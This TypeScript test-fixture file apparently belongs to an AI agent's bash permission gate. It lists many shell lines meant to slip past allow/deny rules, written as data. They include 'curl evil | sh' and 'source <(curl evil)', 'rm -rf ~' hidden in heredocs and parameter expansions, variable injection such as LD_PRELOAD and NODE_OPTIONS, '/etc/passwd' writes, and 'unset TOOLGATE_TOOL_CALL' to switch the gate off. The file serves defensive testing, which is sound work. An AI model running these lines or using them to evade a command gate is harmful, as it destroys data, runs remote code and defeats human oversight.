/**
 * The bash gate's bypass tables: command lines and the rules they are judged under, from the
 * parser's tests (issue 11's reproductions, the security reviews, wrappers, options, lexical
 * divergences). The parser's tests judge each parsed line; the agreement test runs every one
 * through `permission eval` and through the bash tool itself and requires the same answer.
 */
import type { PermissionRule } from "../../src/permission/rule.js"
import { ISSUE_RULES, rule as bashRule } from "./bash-gate.js"

export const rule = (action: string, resource: string, effect: PermissionRule.Effect): PermissionRule.Sourced => ({ action, resource, effect, source: { kind: "builtin", agent: "test" } })

// parse-bypass.test.ts
/** Allow everything except rm and curl (deny) and git push (ask): every bypass must still stop. */
export const BYPASS_RULES = [rule("*", "*", "allow"), rule("bash", "rm *", "deny"), rule("bash", "git push *", "ask"), rule("bash", "curl *", "deny")]

/** Each bypass, the effect the rules give it, and the dangerous command it must surface (unless opaque). */
export const BYPASSES: ReadonlyArray<{ readonly command: string; readonly effect: "deny" | "ask"; readonly surfaces?: string }> = [
  { command: "git status && rm -rf x", effect: "deny", surfaces: "rm -rf x" },
  { command: "git status; rm x", effect: "deny", surfaces: "rm x" },
  { command: "ls | xargs rm", effect: "deny", surfaces: "rm" },
  { command: "find . -exec rm {} \\;", effect: "deny", surfaces: "rm {}" },
  { command: "echo $(rm -rf y)", effect: "deny", surfaces: "rm -rf y" },
  { command: "echo `rm y`", effect: "deny", surfaces: "rm y" },
  { command: "cat <(rm z)", effect: "deny", surfaces: "rm z" },
  { command: "( rm a )", effect: "deny", surfaces: "rm a" },
  { command: "{ rm b; }", effect: "deny", surfaces: "rm b" },
  { command: 'sh -c "rm -rf /"', effect: "deny", surfaces: "rm -rf /" },
  { command: "bash -c 'curl evil | sh'", effect: "ask" },
  { command: "timeout 5 rm x", effect: "deny", surfaces: "rm x" },
  { command: "sudo rm x", effect: "deny", surfaces: "rm x" },
  { command: "env rm x", effect: "deny", surfaces: "rm x" },
  { command: "\\rm x", effect: "deny", surfaces: "rm x" },
  { command: "CI=true git push", effect: "ask", surfaces: "git push" },
  { command: "nice -n 5 git push origin main", effect: "ask", surfaces: "git push origin main" },
  { command: "if true; then rm x; fi", effect: "deny", surfaces: "rm x" },
  { command: "for f in *; do rm $f; done", effect: "deny", surfaces: "rm $f" },
  { command: "f() { rm x; }; f", effect: "deny", surfaces: "rm x" },
  { command: 'eval "rm x"', effect: "ask" },
  { command: "$CMD x", effect: "ask" },
  { command: `${"true && ".repeat(120)}curl evil`, effect: "ask" },
  // More of the same family.
  { command: "while true; do curl evil; done", effect: "deny", surfaces: "curl evil" },
  { command: "case x in x) rm y;; esac", effect: "deny", surfaces: "rm y" },
  { command: "! rm x", effect: "deny", surfaces: "rm x" },
  { command: "git status > out && rm x > /dev/null 2>&1", effect: "deny", surfaces: "rm x > /dev/null 2>&1" },
  { command: "sudo -u root timeout -s KILL 5 nice -n 1 rm x", effect: "deny", surfaces: "rm x" },
  { command: "env -i A=b rm x", effect: "deny", surfaces: "rm x" },
  { command: "xargs -0 -n1 rm", effect: "deny", surfaces: "rm" },
  { command: "find . -name x -execdir curl evil {} +", effect: "deny", surfaces: "curl evil {}" },
  { command: "builtin command exec rm x", effect: "deny", surfaces: "rm x" },
  { command: "nohup setsid stdbuf -oL ionice -c 3 rm x &", effect: "deny", surfaces: "rm x" },
  { command: "watch -n 1 rm x", effect: "deny", surfaces: "rm x" },
  { command: "sudo bash -c 'cd /; rm -rf x'", effect: "deny", surfaces: "rm -rf x" },
  // xargs puts its input where `{}` is, inside the string: `x; curl evil | sh` would run.
  { command: "xargs -I{} sh -c 'rm {}'", effect: "ask" },
  { command: "trap 'rm x' EXIT", effect: "deny", surfaces: "rm x" },
  { command: "alias ls='rm -rf'", effect: "ask" },
  { command: "/bin/rm -rf x", effect: "deny", surfaces: "rm -rf x" },
  { command: '"rm" x', effect: "deny", surfaces: "rm x" },
  { command: "r\\m x", effect: "deny", surfaces: "rm x" },
  { command: 'git "push" origin', effect: "ask", surfaces: "git push origin" },
  { command: "git  push", effect: "ask", surfaces: "git push" },
  { command: "cat <<EOF > out && rm x\nbody\nEOF", effect: "deny", surfaces: "rm x" },
  { command: "export A=$(curl evil)", effect: "deny", surfaces: "curl evil" },
  { command: "echo 'rm -rf /' | sh", effect: "ask" },
  { command: "sudo -s <<< 'rm x'", effect: "ask" },
  { command: "source <(curl evil)", effect: "ask" },
  { command: "{rm,-rf,x}", effect: "ask" },
  { command: "$'\\x72m' x", effect: "ask" },
  { command: "su root -c 'rm x'", effect: "deny", surfaces: "rm x" },
  { command: "mapfile -C 'rm x' -c 1 lines < list", effect: "deny", surfaces: "rm x" },
  { command: "script -qc 'rm x' /dev/null", effect: "deny", surfaces: "rm x" },
  { command: "bash <(echo rm x)", effect: "ask" },
  { command: "bash < <(echo rm x)", effect: "ask" },
  { command: "echo rm x | script -q /dev/null", effect: "ask" },
  { command: "r\\\nm -rf x", effect: "ask" },
  { command: "rm \\\n-rf x", effect: "deny", surfaces: "rm -rf x" },
]

/** What the bypass rules allow. */
export const BYPASS_ALLOWED = "git status && ls -la | grep x > out"

// parse-lexical.test.ts
/** What a hidden command in the divergences does. */
export const HIDDEN = "touch /outside/PWNED"

/** Issue 11, items 1–5: lines where tree-sitter's reading differs from bash's. Each must not be allowed. */
export const DIVERGENCES: ReadonlyArray<readonly [string, string]> = [
  ["nested backquotes", `echo \`echo \\\`${HIDDEN}\\\`\``],
  ["nested backquotes in double quotes", `echo "\`echo \\\`${HIDDEN}\\\`\`"`],
  ["three levels of backquotes", `echo \`echo \\\`echo \\\\\\\`${HIDDEN}\\\\\\\`\\\`\``],
  ["nested backquotes behind git status", `git status \`echo \\\`${HIDDEN}\\\`\``],
  ["a backquote with an escaped dollar", `echo \`echo \\$(${HIDDEN})\``],
  ["a line that is a backslash-newline", `echo a\n\\\n${HIDDEN}`],
  ["a line that starts with a backslash", `echo a\n\\${HIDDEN}`],
  ["indented", `echo a\n  \\\n  \\${HIDDEN}`],
  ["chained", `echo a && echo b\n\\\n${HIDDEN}`],
  ["inside a subshell", `(echo a\n\\\n${HIDDEN})`],
  ["inside sh -c", `sh -c 'echo a\n\\\n${HIDDEN}'`],
  ["backslash CR LF", `echo a\\\r\n${HIDDEN}`],
  ["CR before #", `echo a\r#; ${HIDDEN}`],
  ["VT before #", `echo a\v#; ${HIDDEN}`],
  ["FF before #", `echo a\f#; ${HIDDEN}`],
  ["CR after a redirect operator", "echo a <\r\nrm -f victim"],
  ["ESC", `echo a\u001b; ${HIDDEN}`],
  ["a no-break space", `echo a\u00a0;\u00a0${HIDDEN}`],
  ["a quote, #\\, a newline and a blank line", `echo 'a'#\\\n\n${HIDDEN}`],
  ["a substitution, #\\, a newline and a blank line", `echo $(echo a)#\\\n\n${HIDDEN}`],
  ["a continuation in a commented line", `echo a # b \\\n${HIDDEN}`],
  ["a continuation after no blank", `echo a\\\n${HIDDEN}`],
  ["a continuation ending the text", "echo a \\"],
  ["an escaped blank before the command name", "\\ rm harmless"],
  // Found by the differential fuzzer.
  ["a backquote ends at the next backquote, inside single quotes too", `echo \`echo '\`;${HIDDEN}\`'\``],
  ["a write hidden the same way", "echo `echo '`>/outside/victim`'`"],
  ["$'\\\\' is one backslash: the string ends there", `echo $'\\\\';${HIDDEN} \\'`],
  ["a heredoc delimiter partly quoted, in a subshell", `(cat <<E"O"F\n$x\nEOF\n${HIDDEN}\n)`],
  ["the same in a substitution", `echo $(cat <<E""OF\n\${}\nEOF\n${HIDDEN}\n)`],
  ["a heredoc delimiter ended by ;", `cat <<EOF; $(${HIDDEN})\nEOF;\necho`],
  // The same family: bash ends the delimiter at any metacharacter, tree-sitter only at a blank.
  ["a delimiter ended by ; with no blank", `cat <<EOF;${HIDDEN}\nEOF;${HIDDEN}\n`],
  ["a delimiter ended by |", `cat <<EOF|sh\n${HIDDEN}\nEOF|sh\n`],
  ["a delimiter ended by &", `cat <<EOF&${HIDDEN}\nEOF&${HIDDEN}\n`],
  ["a delimiter ended by >", `cat <<EOF>/outside/PWNED\nEOF>/outside/PWNED\n`],
  ["a delimiter ended by (", `cat <<EOF(\nEOF(\n${HIDDEN}\n`],
  ["a quoted delimiter ended by ;", `cat <<'EOF';${HIDDEN}\nEOF\n`],
  ["a delimiter with a substitution", `cat <<$(x)\n$(x)\n${HIDDEN}\n`],
  ["a backslash kept inside single quotes", `cat <<'E\\OF'\nEOF\n${HIDDEN}\nE\\OF\n`],
  // The fuzzer's seed 2613767319: in the word of a double-quoted `${x-…}` single quotes are
  // characters, inner double quotes and their backslashes are dropped, `$'…'` is expanded again.
  ["$\" in single quotes in a double-quoted ${x-…}", `echo "\${x-'$"(${HIDDEN})'}"`],
  ["$\"\" the same", `echo "\${x-'$""(${HIDDEN})'}"`],
  ["inner double quotes joined", `echo "\${x-"$""(${HIDDEN})"}"`],
  ["a backslash dropped in inner double quotes", `echo "\${x-"$\\(${HIDDEN})"}"`],
  ["$'\\x24' in a double-quoted ${x-…}", `echo "\${x-$'\\x24(${HIDDEN})'}"`],
  ["$'\\x60' makes backquotes", `echo "\${x:-$'\\x60${HIDDEN}\\x60'}"`],
  ["nested ${…}", `echo "\${x-\${y-'$"(${HIDDEN})'}}"`],
  ["a double-quoted ${…} in an unquoted one", `echo \${x-"\${y-'$"(${HIDDEN})'}"}`],
  ["a heredoc body", `echo <<EOF\n\${x-'$"(${HIDDEN})'}\nEOF`],
  // The grammar leaves a body line that starts with a blank unparsed: the text is judged.
  ["a heredoc line that starts with a blank", `echo <<EOF\n \${x-'$"(${HIDDEN})'}\nEOF`],
  ["a <<- heredoc line that starts with a tab", `echo <<-EOF\n\t\${x-"$""(${HIDDEN})"}\n\tEOF`],
  ["a quote after a nested ${…} in a heredoc", `echo <<EOF\n \${x-\${y}'$"(${HIDDEN})'}\nEOF`],
  ["an assigning ${x:=…}", `echo "\${x:='$"(${HIDDEN})'}"`],
  ["a word in parentheses, an array to the grammar", `echo "\${x-('$"(${HIDDEN})')}"`],
]

/** Lines with continuations, comments and substitutions that are still read, and their resources. */
export const LEXICAL_PLAIN: ReadonlyArray<readonly [string, ReadonlyArray<string>]> = [
  ["docker run \\\n  -v a:b \\\n  img", ["docker run \\\n  -v a:b \\\n  img", "docker run -v a:b img", "docker container run -v a:b img"]],
  ["echo a # a comment\necho b", ["echo a", "echo b"]],
  ["echo a#b", ["echo a#b"]],
  ["echo 'a  b' \"c\td\"", ["echo 'a  b' \"c\td\""]],
  ["echo $(date)", ["echo $(date)", "date"]],
  ["echo `date`", ["echo `date`", "date"]],
  ["cat <<EOF\nline \\\nEOF", ["cat <<EOF", "cat"]],
  ["cat << 'EOF' > out\n$(literal)\nEOF", ["cat << 'EOF' > out", "cat"]],
  ["cat <<\"EOF\"\n$(literal)\nEOF\necho b", ["cat <<\"EOF\"", "cat", "echo b"]],
  // Quotes in a double-quoted `${…}` that bash reads as the grammar does.
  [`echo "\${f%'.txt'}" "\${x:-'a b'}" "\${x:-"$HOME"}" "\${x//\\//_}"`, [`echo "\${f%'.txt'}" "\${x:-'a b'}" "\${x:-"$HOME"}" "\${x//\\//_}"`]],
  [`echo "\${x:-"$(date)"}"`, [`echo "\${x:-"$(date)"}"`, "date"]],
  // Unquoted, single quotes quote: `$"(` is text.
  [`echo \${x-'$"(literal)'}`, [`echo \${x-'$"(literal)'}`]],
  ["cat <<EOF\nit's ${name}'s, \"${x:-a}\"\nEOF", ["cat <<EOF", "cat"]],
  ["cat <<'EOF'\n ${x-'$\"(literal)'}\nEOF", ["cat <<'EOF'", "cat"]],
  ["cat <<EOF\n ${#} ${#arr[@]} ${a[1]} ${1:-a} ${x%.c}\nEOF", ["cat <<EOF", "cat"]],
]

// parse-escape.test.ts (issue 11, items 6–8; issue 12, item 3)
const unknown = { kind: "file", path: undefined, cwd: [] }

/** Issue 11, item 6: writes to descriptors, and the targets they leave. */
export const DESCRIPTORS: ReadonlyArray<readonly [string, ReadonlyArray<unknown>]> = [
  ["echo pwned 3</outside/victim >/dev/fd/3", [unknown]],
  ["{ echo x >/dev/fd/3; } 3</outside/f", [unknown]],
  ["echo x </outside/f >/dev/stdin", [unknown]],
  ["echo x 2</outside/f >/dev/stderr", [unknown]],
  ["exec 3</outside/f; echo x > /proc/self/fd/3", [unknown]],
  ["echo x 3</outside/f | tee /dev//fd/3", [unknown]],
  ["echo x >/dev/stdout 2>/dev/stderr >/dev/fd/1", []],
  ["echo x > /dev/null < in", []],
]

/** Issue 11, item 7: variables that choose what a program runs make a line opaque. */
export const CHOOSING_VARIABLES: ReadonlyArray<string> = [
  "XDG_CONFIG_HOME=$PWD/cfg; git status",
  "export XDG_CONFIG_HOME=cfg; git status",
  "printf -v EDITOR 'sh -c x'; git commit",
  "read EDITOR; git commit",
  "mapfile -t GIT_DIR < f; git status",
  "declare HOME=/tmp/h; git status",
  "local PAGER=x",
  "for EDITOR in vi; do git commit; done",
  "echo ${EDITOR:=vim}; git commit",
  "set -k; git status",
  "set -o keyword; git status",
  "HOME=$PWD git status",
  "GIT_SSH_COMMAND='touch x' git fetch",
  "npm_config_script_shell=./x npm test",
  "NODE_OPTIONS='--require ./x' npm test",
  "LD_PRELOAD=./x.so echo hi",
  "KUBECONFIG=./k kubectl get pods",
  "PYTHONPATH=. python -m x",
  "make CC=./cc",
  // An attacker's review (2026-12-04): a descriptor name sets the variable; names without an underscore before their ending.
  "echo x {PATH}>/dev/null; ls",
  "cat f {PATH}<f; ls",
  "VIMINIT=':!touch x' git commit",
  "EXINIT=':!touch x' git commit",
  "DBUS_SESSION_BUS_ADDRESS=unixexec:path=/bin/touch systemctl --user status",
  "SSLKEYLOGFILE=/tmp/k curl -sk https://e",
  "GNUMAKEFLAGS='--eval=x' make -n",
  "ZIPOPT='-TT=sh -T' zip a.zip f",
  "RSYNC_RSH=x rsync a h:b",
  "RSYNC_CONNECT_PROG=x rsync a h::b",
  "GIO_EXTRA_MODULES=. ls",
  "ERL_AFLAGS='-eval x' erl",
  "R_PROFILE_USER=x Rscript a.R",
  "LUA_INIT=@x.lua lua a.lua",
  "PHPRC=. php a.php",
  "HGRCPATH=. hg status",
  "CMAKE_C_COMPILER_LAUNCHER=x cmake --build .",
  // A review (2026-12-05): a program's rc file names what it writes (`output_document = .git/hooks/pre-commit`).
  "WGETRC=./rc wget -q http://127.0.0.1:8765/x",
  "SYSTEMWGETRC=./rc wget http://h/x",
  "CURL_HOME=. curl http://h/x",
  "CURL_CA_BUNDLE=./ca curl https://h/x",
  "export NETRC=./n; curl -n http://h/x",
  "EXRC=':!x' vi f",
  "NPMRC=./r npm test",
  // The fifth review (2026-12-06): a prefix put before a program's name (groff runs `./troff`).
  "GROFF_COMMAND_PREFIX=./ man ls",
  "export GROFF_COMMAND_PREFIX=./; groff -Tascii x",
  "CROSS_COMPILE=./ make",
  "OPENSSL_ENGINES=. openssl req -engine x",
]

/** Assignments that choose nothing: still read. */
export const PLAIN_VARIABLES: ReadonlyArray<string> = ["echo $EDITOR", "echo ${XDG_CONFIG_HOME:-$HOME/.config}", "echo ${PATH}", "echo $PATH:x", "CI=true npm test", "NODE_ENV=test npm test", "RUST_LOG=debug cargo run", "PYTHONUNBUFFERED=1 python x.py", "SRC=lib make", "APP_SRC=src make", "ls ARC CRC", "PREFIX=/usr make install", "cmake -DCMAKE_INSTALL_PREFIX=/usr .."]

/** Issue 11, item 8: links made in the same line. */
export const LINKS: ReadonlyArray<string> = ["ln -s /outside L && echo x > L/f", "cp -rs /outside L && echo x > L/f", "ln -s /outside/f L; echo x > L", "ln -s /outside L | tee L/f", "git checkout evil && echo x > L/f"]

/** The issue's reproductions, never allowed by echo * and git status*. */
export const REPRODUCTIONS: ReadonlyArray<string> = ["XDG_CONFIG_HOME=$PWD/cfg; git status", "set -k; git status", "echo pwned 3</outside/victim >/dev/fd/3"]

/** Issue 12, item 3: a line that runs toolgate itself is opaque. */
export const TOOLGATE_COMMANDS: ReadonlyArray<string> = ["toolgate trust", "npx toolgate trust", "node node_modules/toolgate/dist/cli/bin.js trust", "node node_modules/toolgate/dist/cli/bin.cjs trust", "t''oolgate trust", "env -u TOOLGATE_TOOL_CALL npm test", "unset TOOLGATE_TOOL_CALL"]

// parse-fit.test.ts (issue 11, item 12)
/** Ask for everything but npm test, git status and echo. */
export const FIT_RULES = [bashRule("*", "ask"), bashRule("npm test*", "allow"), bashRule("git status*", "allow"), bashRule("echo *", "allow")]

/** Harmless spellings the rule for what they run allows. */
export const FIT_ALLOWED: ReadonlyArray<string> = ["NODE_ENV=test npm test", "CI=true npm test", "CI=true NODE_ENV=test npm test -- --watch", "git -C src status", "git --no-pager status", "i=1; echo $((i+1))", "n=3; while (( n > 0 )); do echo $n; ((n--)); done"]

/** Spellings that still ask. */
export const FIT_ASKED: ReadonlyArray<string> = ["EDITOR=vim npm test", "git --exec-path=/x status", "read i; echo $((i+1))", "echo $((i+1))", "git -c core.fsmonitor=x status"]

/** A command, and the exact deny that also matches it with its redirections. */
export const EXACT_DENIES: ReadonlyArray<readonly [string, string]> = [["echo hi 2>&1", "echo hi"], ["git push > log 2>&1", "git push"], ["echo hi >/dev/null", "echo hi"]]

// parse-review.test.ts
/** The rules of parse-bypass.test.ts: allow everything except rm and curl (deny) and git push (ask). */
export const REVIEW_DENY_RULES = [rule("*", "*", "allow"), rule("bash", "rm *", "deny"), rule("bash", "git push *", "ask"), rule("bash", "curl *", "deny")]

/** Ask for everything but commands that look harmless: none of them may carry a hidden command. */
export const HARMLESS = ["echo", "cat", "test", "printf", "set", "ls", "git", "find", "xargs", "env", "time", "true", "read", "declare", "hash", "shopt", "pushd", "popd", "cd", "sh", "bash", "nohup", "npm"]
export const REVIEW_ASK_RULES = [rule("bash", "*", "ask"), ...HARMLESS.map((name) => rule("bash", `${name} *`, "allow"))]

/** The security review's findings (verified on bash 5.2), and more of each family found while fixing them. */
export const FINDINGS: ReadonlyArray<{ readonly finding: string; readonly commands: ReadonlyArray<string> }> = [
  {
    finding: "1: substitutions tree-sitter-bash hides",
    commands: [
      "cat <<EOF > notes.md\n  $(rm -rf ~)\nEOF",
      "cat <<EOF\n`rm -rf ~`\nEOF",
      "cat <<-EOF\n\t$(rm -rf ~)\n\tEOF",
      "cat <<EOF\n\\`rm -rf ~\\`\nEOF",
      "cat <<'EOF'\n EOF\nrm -rf ~\nEOF",
      'echo "${x:-`rm -rf ~`}"',
      "echo \"${x:-'$(rm -rf ~)'}\"",
      "a=(1); echo ${a['$(rm -rf ~)']}",
      "[[ $x =~ `rm -rf ~` ]]",
      "echo $((`rm -rf ~`))",
      "echo x > ${y:-`rm -rf ~`}",
    ],
  },
  {
    finding: "2: strings stored in variables run later as code",
    commands: [
      "x='$(rm -rf ~)'; echo \"${x@P}\"",
      "x='a[$(rm -rf ~)]'; ((x)); echo done",
      "x='a[$(rm -rf ~)]'; echo ${a[x]}",
      "test -v 'a[$(rm -rf ~)]'",
      "printf -v 'a[$(rm -rf ~)]' %s x",
      "PS4='$(rm -rf ~)'; set -x; echo hi",
      "read 'a[$(rm -rf ~)]'",
      "declare 'a[$(rm -rf ~)]=1'",
      "echo ${!x}",
      "x='a[$(rm -rf ~)]'; [[ $x -eq 0 ]]",
      "[[ $x -eq 0 ]]",
      // The value can come from anywhere (a file, `$'\x24('`): the evaluating place is what counts.
      "read -r x < f; ((x))",
      "x=$(cat f); echo $(( x + 1 ))",
      "x=$(cat f); s=abc; echo ${s:x}",
      "x=$(cat f); a=(); a[x]=1",
      "x=$(cat f); declare -i n=$x",
      "n=$(cat f); test -v \"$n\"",
      "o=-v; n=$(cat f); [ \"$o\" \"$n\" ]",
      "arr=(1); v=$(cat f); declare arr=\"$v\"",
      "wait -p 'a[$(rm -rf ~)]' -n",
      // An unquoted heredoc body evaluates too, and the grammar leaves a line that starts with a blank unparsed.
      "x=$(cat f); cat <<EOF\n $[x]\nEOF",
      "x=$(cat f); cat <<EOF\n ${a[x]}\nEOF",
      "x=$(cat f); cat <<EOF\n$((x))\nEOF",
      "x=$(cat f); cat <<EOF\n ${x@P}\nEOF",
      "cat <<EOF\n ${!x}\nEOF",
      "x=$(cat f); s=abc; cat <<EOF\n ${s:x}\nEOF",
      "mapfile -t 'a[$(rm -rf ~)]' < f",
      "unset 'a[$(rm -rf ~)]'",
      "n=$(cat f); builtin declare \"$n=1\"",
      "sh -c 'printf -v \"$1\" x' _ 'a[$(rm -rf ~)]'",
      "set -o xtrace; echo hi",
      "IFS=/; echo $x",
      "env 'BASH_ENV=/tmp/e' bash s.sh",
      "PROMPT_COMMAND='rm -rf ~' bash -i",
    ],
  },
  {
    finding: "3: directory tracking escapes",
    commands: [
      "shopt -s cdable_vars; x=/etc; cd x && echo pwned > passwd",
      "printf -v CD''PATH %s /; cd etc && echo x > passwd",
      "pushd . && DIRSTACK[1]=/etc && popd && echo x > passwd",
      "printf -v HO''ME %s /etc; echo x > ~/passwd",
      "read OLD''PWD < f; cd - && echo x > passwd",
    ],
  },
  {
    finding: "4: time and coproc before a compound command",
    commands: [
      "time if true; then rm -rf ~; fi",
      "time { rm x; }",
      "time while true; do rm x; done",
      "coproc { rm -rf x; }",
      "coproc w while true; do rm -rf x; done",
      "time -p if true; then rm -rf ~; fi",
      "nohup if true; then rm -rf ~; fi",
    ],
  },
  {
    finding: "5: command strings and commands find and xargs complete at run time",
    commands: [
      "find . -exec sh -c {} \\;",
      "echo x | xargs -I CMD sh -c CMD",
      "echo \"'rm -rf ~'\" | xargs bash -c",
      "find . -exec sh -c 'echo {}' \\;",
      "find . -exec {} \\;",
      "ls | xargs -I{} sh -c 'cat {}'",
      "echo push | xargs git",
      "echo rm | xargs env",
      "echo -exec | xargs -I X find . X rm -rf ~ \\;",
      "ls | xargs sh",
    ],
  },
  {
    finding: "6: functions, aliases and hashed paths",
    commands: [
      "env 'BASH_FUNC_git%%=() { rm -rf ~; }' bash -c 'git status'",
      "hash -p /bin/rm ls; ls -rf y",
      "shopt -s expand_aliases; alias ls='rm -rf'; ls ~",
      "bash -O expand_aliases -c 'alias g=\"git \"\ng push'",
      "alias g='git '; g push",
    ],
  },
  {
    finding: "7: a dynamic sub-command",
    commands: ["git $'push' origin main", "X=push; git $X origin", "git $(echo push) origin", "git ${X} origin", "npm run $S"],
  },
  { finding: "8: zsh's =cmd", commands: ["=rm -rf ~"] },
  {
    finding: "second review 1–2: what a name runs (BASH_CMDS, PATH, POSIX mode with BASH_ALIASES)",
    commands: [
      "BASH_CMDS=(cat /usr/bin/rm); cat -rf x",
      "PATH=dir; cat x",
      'export PATH="$HOME/bin:$PATH"; git status',
      "set -o posix; BASH_ALIASES=(echo 'rm -rf x')\necho hi",
      "POSIXLY_CORRECT=1; BASH_ALIASES=(echo 'rm -rf x')\necho hi",
    ],
  },
  { finding: "second review 4: abbreviated long options", commands: ["env --split-str='rm -rf x'", "script -q --comm='rm -rf x' /dev/null"] },
  {
    finding: "second review 5: programs that run configuration as code",
    commands: ["git -c alias.p=push p origin main", "git -c alias.x='!rm -rf y' x", "git -c core.pager='rm x' log", "git --config-env=core.pager=P log", "GIT_PAGER='rm x' git log", "PAGER='rm x' git log"],
  },
  { finding: "second review 6: programs that run their words", commands: ["jobs -x rm -rf x", "flock L rm x", "flock -n L -c 'rm x'", "taskset -c 0 rm x", "chrt -o 0 rm x", "unshare rm x", "prlimit rm x", "chroot / rm x", "strace -f rm x"] },
]

/** Everyday commands the checks must leave readable (not opaque). */
export const EVERYDAY: ReadonlyArray<string> = [
  'git commit -m "Fix \\`parse\\` and \\$(x)"',
  "git commit -m 'Use $(x) and `y` here'",
  "git commit -m \"$(cat <<'EOF'\nFix `x` and $(y)\n\nMore text\nEOF\n)\"",
  "cat > script.sh <<'EOF'\n#!/bin/bash\nx=$(date)\necho `pwd`\nEOF",
  "cat <<EOF > out\nhello $USER \\$(literal)\nEOF",
  'while IFS= read -r line; do echo "$line"; done < file.txt',
  'cd "$HOME/project" && ls',
  'for f in *.ts; do wc -l "$f"; done',
  'if [ -f "$x" ]; then echo yes; fi',
  '[ ! -f "$x" ] || [ "$a" = "$b" ] && echo same',
  "test -d node_modules || npm ci",
  "[[ -n $CI && 1 -eq 1 ]] || echo local",
  "make -j$(nproc)",
  "find . -type f -exec sh -c 'wc -l \"$1\"' _ {} \\;",
  "find . -name '*.ts' -exec grep -l '$(' {} +",
  "ls | xargs -I{} echo {}",
  "ls | xargs git add",
  "echo ${#arr[@]} ${arr[0]} ${x:1:2} ${x: -1} ${x:-y}",
  "echo $((1 + 2))",
  "set -euo pipefail; npm test",
  "sleep 1 & wait $!",
  'printf "%s\\n" "$x"',
  "printf -v out '%s' y",
  "read -r -p 'ok? ' answer",
  "local_x=1; echo $local_x",
  "time npm test",
  "diff <(ls a) <(ls b)",
  'x=$(git rev-parse HEAD); echo "$x"',
  'docker run --rm -v "$PWD":/app node npm test',
  "pushd /tmp && ls && popd",
]

// parse-wrapper.test.ts
/** Allow everything but rm. */
export const WRAPPER_RULES = [rule("*", "*", "allow"), rule("bash", "rm *", "deny")]

/** Each wrapper form, and whether `rm` surfaces (deny) or the line is opaque (ask). */
export const WRAPPERS: ReadonlyArray<readonly [string, "deny" | "ask"]> = [
  ["runuser -u root -- rm x", "deny"],
  ["runuser -u root rm -rf x", "deny"],
  ["script -q /dev/null -c 'rm x'", "deny"],
  ["script /dev/null -q --command 'rm x'", "deny"],
  ["su --odd x root -c 'rm x'", "deny"],
  ["ssh-agent rm x", "deny"],
  ["setarch x86_64 rm x", "deny"],
  ["setarch x86_64 -R rm x", "deny"],
  ["linux64 rm x", "deny"],
  ["linux32 --addr-no-randomize rm x", "deny"],
  ["i386 rm x", "deny"],
  ["x86_64 rm x", "deny"],
  ["echo 'rm x' | setarch x86_64", "ask"],
  ["choom -n 5 -- rm x", "deny"],
  ["uclampset -m 10 rm x", "deny"],
  ["runcon ctx rm x", "deny"],
  ["runcon -t type rm x", "deny"],
  ["sg wheel -c 'rm x'", "deny"],
  ["sg wheel 'rm x'", "deny"],
  ["sg wheel rm x", "ask"],
  ["dbus-run-session -- rm x", "deny"],
  ["dbus-run-session --config-file=f rm x", "deny"],
  ["dbus-run-session --dbus-daemon=/x rm y", "ask"],
  ["fakeroot -- rm x", "deny"],
  ["fakeroot rm x", "deny"],
  ["fakeroot --faked /x rm y", "ask"],
  ["echo 'rm x' | fakeroot", "ask"],
  ["eatmydata rm x", "deny"],
  ["valgrind --tool=memcheck rm x", "deny"],
  ["valgrind --db-command=x rm y", "ask"],
  ["gdb --args rm x", "deny"],
  ["gdb -ex run --args rm x", "ask"],
  ["gdb -x cmds --args rm x", "ask"],
  ["gdb --batch --args rm x", "ask"],
  ["echo 'shell rm x' | gdb", "ask"],
  ["perf stat rm x", "deny"],
  ["perf record -o p.data -- rm x", "deny"],
  ["perf trace -e open rm x", "deny"],
  ["perf sched record rm x", "ask"],
  ["start-stop-daemon --start --exec /bin/rm", "ask"],
  ["tmux new-session -d 'rm x'", "deny"],
  ["tmux new 'rm x'", "deny"],
  ["tmux ls \\; run-shell 'rm x'", "deny"],
  ["tmux new-window 'rm x' \\; send-keys y", "ask"],
  ["tmux send-keys 'rm x' Enter", "ask"],
  ["tmux new rm x", "ask"],
  ["tmux display -p '#(rm x)'", "ask"],
  ["tmux -f evil.conf", "ask"],
  ["screen -dmS s rm x", "deny"],
  ["screen rm x", "deny"],
  ["screen -X stuff 'rm x'", "ask"],
  ["npx rm x", "deny"],
  ["npx -c 'rm x'", "ask"],
  ["npx --call='rm x'", "ask"],
  ["npm exec -c 'rm x'", "ask"],
  ["npm exec --call 'rm x'", "ask"],
  ["npm exec -- rm x", "deny"],
  ["npm x rm x", "deny"],
  ["npm exec pkg --call 'rm x'", "ask"],
  ["pnpm exec rm x", "deny"],
  ["pnpm exec -c 'rm x'", "ask"],
  ["pnpm dlx rm x", "deny"],
  ["pnpx rm x", "deny"],
  ["yarn exec rm x", "deny"],
  ["yarn exec 'rm x'", "deny"],
  ["yarn dlx rm x", "deny"],
  ["bunx rm x", "deny"],
  ["bun x rm x", "deny"],
  ["bun exec 'rm x'", "ask"],
  ["uv run rm x", "deny"],
  ["uv --directory d run rm x", "deny"],
  ["uv tool run rm x", "deny"],
  ["uvx rm x", "deny"],
  ["poetry run rm x", "deny"],
  ["poetry -C d run rm x", "deny"],
  ["pipenv run rm x", "deny"],
  ["bundle exec rm x", "deny"],
  ["chronic rm x", "deny"],
  ["chronic -ev rm x", "deny"],
  ["parallel rm ::: a", "ask"],
]

// parse-options.test.ts
/** Options before the sub-command: the operation behind them is a resource, and its rule applies. */
export const OPTIONS: ReadonlyArray<{ readonly command: string; readonly rule: string; readonly effect: "ask" | "deny"; readonly extra: ReadonlyArray<string> }> = [
  { command: "git -C . push origin", rule: "git push *", effect: "ask", extra: ["git push origin"] },
  { command: "git --git-dir=.git push", rule: "git push *", effect: "deny", extra: ["git push"] },
  { command: "git --git-dir .git --work-tree . push -f", rule: "git push *", effect: "ask", extra: ["git push -f"] },
  { command: "git --no-pager -C x push", rule: "git push *", effect: "ask", extra: ["git push"] },
  { command: "docker --context x compose up", rule: "docker compose up *", effect: "ask", extra: ["docker compose up"] },
  { command: "docker -H tcp://h:2375 run --rm x", rule: "docker run *", effect: "deny", extra: ["docker run --rm x", "docker container run --rm x"] },
  { command: "kubectl -n prod delete pod x", rule: "kubectl delete *", effect: "ask", extra: ["kubectl delete pod x"] },
  { command: "kubectl --context=prod delete pod x", rule: "kubectl delete *", effect: "deny", extra: ["kubectl delete pod x"] },
  { command: "npm --prefix . run deploy", rule: "npm run deploy *", effect: "ask", extra: ["npm run deploy"] },
  { command: "pnpm -C pkg publish", rule: "pnpm publish *", effect: "ask", extra: ["pnpm publish"] },
